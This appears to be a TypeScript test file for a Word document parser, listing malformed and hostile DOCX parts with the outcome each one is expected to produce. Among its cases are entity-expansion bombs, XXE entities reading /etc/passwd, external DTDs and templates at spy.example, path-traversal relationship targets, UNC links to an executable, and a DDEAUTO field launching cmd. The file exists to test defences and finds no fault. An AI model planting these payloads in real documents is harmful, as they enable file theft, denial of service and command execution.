import { docx, p, r, root } from '../build-docx.ts'
import { type Kind, many, read, refused, sound, withPart } from './kind.ts'

const documentPart = (content: string | Uint8Array) => withPart('word/document.xml', content)
const body = (words: string): string =>
  root('document', `<w:body><w:p><w:r><w:t>${words}</w:t></w:r></w:p></w:body>`)
const relationships = (content: string): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${content}</Relationships>`
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const entities = `<!DOCTYPE w [<!ENTITY a "ha">${many(9, (i) => `<!ENTITY ${'bcdefghij'[i]} "${`&${'abcdefghi'[i]};`.repeat(10)}">`)}]>`
const nested = (depth: number): string =>
  `<w:sdt><w:sdtContent>`.repeat(depth) + `</w:sdtContent></w:sdt>`.repeat(depth)

/** XML that expands, leads elsewhere, is in the wrong letters or is none. */
export const xmlTraps: Kind[] = [
  refused('entities of entities', /document type/, () => documentPart(`${entities}<w>&j;</w>`)),
  refused('an entity that is a file', /document type/, () =>
    documentPart('<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'),
  ),
  refused('a parameter entity from elsewhere', /document type/, () =>
    documentPart('<!DOCTYPE w [<!ENTITY % x SYSTEM "http://spy.example/x"> %x;]><w/>'),
  ),
  refused('a document type from elsewhere', /document type/, () =>
    documentPart('<!DOCTYPE w SYSTEM "http://spy.example/x.dtd"><w/>'),
  ),
  refused('a document type in its list of kinds', /document type/, () =>
    withPart('[Content_Types].xml', '<!DOCTYPE a><Types/>'),
  ),
  refused('a document type in its styles', /document type/, () =>
    docx({ body: p('x'), styles: '', parts: { 'word/styles.xml': `${entities}<a/>` } }),
  ),
  refused('an entity that nothing declares', /not well-formed/, () => documentPart(body('&xxe;'))),
  refused('a tag that is never ended', /not well-formed/, () =>
    documentPart('<w:document xmlns:w="x"><w:body>'),
  ),
  refused('tags that cross', /not well-formed/, () => documentPart(body('</w:r></w:t>'))),
  refused('a prefix that nothing declares', /not well-formed/, () => documentPart('<q:document/>')),
  refused('an attribute twice', /not well-formed/, () => documentPart('<a x="1" x="2"/>')),
  refused('an empty part', /not well-formed|no Word|not a Word/, () => documentPart('')),
  refused('a part that is no document', /not a Word document/, () => documentPart('<a/>')),
  refused('a part that is a picture', /UTF-8|not well-formed/, () =>
    documentPart(Buffer.from('89504e470d0a1a0a0000000d49484452ff', 'hex')),
  ),
  refused('bytes that are no letters', /UTF-8/, () => documentPart(Buffer.from(body('caf\u00e9'), 'latin1'))),
  refused('half a letter at the end', /UTF-8/, () =>
    documentPart(Buffer.concat([Buffer.from(body('x')), Buffer.from([0xe2, 0x82])])),
  ),
  refused('UTF-16 with half a letter', /UTF-16/, () =>
    documentPart(Buffer.concat([Buffer.from(`\ufeff${body('x')}`, 'utf16le'), Buffer.from([0x3c])])),
  ),
  read('letters of Windows, declared', /café/, () =>
    documentPart(Buffer.from(body('caf\u00e9').replace('UTF-8', 'windows-1252'), 'latin1')),
  ),
  read('UTF-16 without its mark', /über/, () =>
    documentPart(Buffer.from(body('über').replace('UTF-8', 'UTF-16'), 'utf16le')),
  ),
  read('UTF-8 with a mark', /über/, () => documentPart(Buffer.from(`\ufeff${body('über')}`))),
  refused('UTF-32', /not well-formed|UTF/, () =>
    documentPart(Buffer.from([...body('x')].flatMap((one) => [one.charCodeAt(0), 0, 0, 0]))),
  ),
  refused('characters that XML forbids', /not well-formed/, () => documentPart(body('a\u0001b'))),
  refused('the same by their numbers', /not well-formed/, () => documentPart(body('a&#x1;b'))),
  refused('a character that is none', /not well-formed/, () => documentPart(body('&#xD800;'))),
  refused('a number that is no character', /not well-formed/, () => documentPart(body('&#x7fffffff;'))),
  read('marks that turn the text round', /a\u202eb/, () => documentPart(body('a\u202eb'))),
  read('a stylesheet from elsewhere', /sound/, () =>
    documentPart(body('sound').replace('?><', '?><?xml-stylesheet href="http://spy.example/x.xsl"?><')),
  ),
  refused('200 controls within each other', /256 levels/, () => docx({ body: nested(200) })),
  refused('the same in its styles', /256 levels/, () => docx({ body: p('x'), styles: nested(200) })),
  refused('the same in a comment', /256 levels/, () => docx({ body: p('x'), comments: nested(200) })),
  refused('100 tables within each other', /256 levels/, () =>
    docx({ body: '<w:tbl><w:tr><w:tc>'.repeat(100) + '</w:tc></w:tr></w:tbl>'.repeat(100) }),
  ),
  read('100,000 attributes on one element', /sound/, () =>
    docx({ body: `${p('sound')}<w:p ${many(100_000, (i) => ` a${i}=""`)}/>` }),
  ),
  read('an attribute of 20 MB', /sound/, () =>
    docx({ body: `${p('sound')}<w:p w:rsid="${'x'.repeat(20_000_000)}"/>` }),
  ),
  read('a comment and a section of 20 MB', /sound/, () =>
    docx({ body: `${p('sound')}<!--${'x'.repeat(10_000_000)}--><![CDATA[${'x'.repeat(10_000_000)}]]>` }),
  ),
  refused('nothing that says where the text is', /says where/, () =>
    withPart('_rels/.rels', relationships('')),
  ),
  refused('a text that is missing', /missing|not a Word document/, () =>
    withPart(
      '_rels/.rels',
      relationships(`<Relationship Id="a" Type="${office}/officeDocument" Target="word/gone.xml"/>`),
    ),
  ),
  refused('a text that is somewhere else', /says where/, () =>
    withPart(
      '_rels/.rels',
      relationships(
        `<Relationship Id="a" Type="${office}/officeDocument" Target="http://spy.example/x" TargetMode="External"/>`,
      ),
    ),
  ),
  refused('a text that leads out of the file', /says where/, () =>
    withPart(
      '_rels/.rels',
      relationships(`<Relationship Id="a" Type="${office}/officeDocument" Target="../../../etc/passwd"/>`),
    ),
  ),
  read('parts that are named and missing', /sound/, () =>
    docx({
      body: p('sound'),
      relationships: ['styles', 'numbering', 'comments', 'footnotes', 'header', 'image'].map((type) => [
        type,
        type,
        `${type}-gone.xml`,
      ]),
    }),
  ),
  read('addresses everywhere, which nothing follows', /sound/, () =>
    docx({
      body: `${p('sound')}<w:altChunk r:id="a"/><w:subDoc r:id="s"/>${p('<w:pict><v:imagedata r:id="i"/></w:pict>')}${p('<w:pict><v:imagedata r:id="u"/></w:pict>')}${p(`<w:hyperlink r:id="h">${r('x')}</w:hyperlink>`)}${p('<w:fldSimple w:instr=\'INCLUDEPICTURE "http://spy.example/p.png"\'/>')}${p('<w:fldSimple w:instr=\'DDEAUTO cmd "/c calc"\'/>')}`,
      relationships: [
        ['a', 'aFChunk', 'http://spy.example/a'],
        ['s', 'subDocument', 'file:///etc/passwd'],
        ['i', 'image', 'http://spy.example/i.png'],
        ['u', 'image', '\\\\spy\\share\\i.png'],
        ['h', 'hyperlink', '\\\\spy\\share\\x.exe'],
        ['t', 'attachedTemplate', 'http://spy.example/t.dotm'],
        ['y', 'styles', 'http://spy.example/styles.xml'],
      ],
    }),
  ),
  read('a relationship twice', /sound/, () =>
    docx({
      body: p('sound'),
      relationships: [
        ['a', 'image', 'x.png'],
        ['a', 'hyperlink', 'http://x.example/'],
      ],
    }),
  ),
  read('no relationships at all', /sound/, () => withPart('word/_rels/document.xml.rels', relationships(''))),
  read('nothing wrong', /sound/, () => sound),
]
